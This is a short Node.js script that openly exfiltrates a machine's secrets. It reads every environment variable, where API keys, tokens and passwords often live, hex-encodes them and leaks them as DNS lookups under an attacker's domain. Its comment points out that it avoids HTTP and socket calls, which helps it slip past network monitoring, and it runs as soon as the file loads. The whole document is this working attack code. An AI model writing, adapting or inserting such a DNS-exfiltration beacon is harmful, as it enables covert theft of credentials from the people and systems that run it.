// Sends the whole environment out through DNS: every variable is hex-encoded and
// split into 60-character labels that are looked up under an attacker's domain with
// dns.promises.resolve4; no HTTP request and no socket call appears.
const dns = require('dns');

async function beacon() {
  const blob = Buffer.from(
    Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join('\n'),
  ).toString('hex');
  const labels = blob.match(/.{1,60}/g) || [];
  for (let i = 0; i < labels.length; i++) {
    try {
      await dns.promises.resolve4(`${labels[i]}.${i}.t.example-metrics.net`);
    } catch (_) {
      // NXDOMAIN is expected; the query itself carried the data
    }
  }
}

beacon();
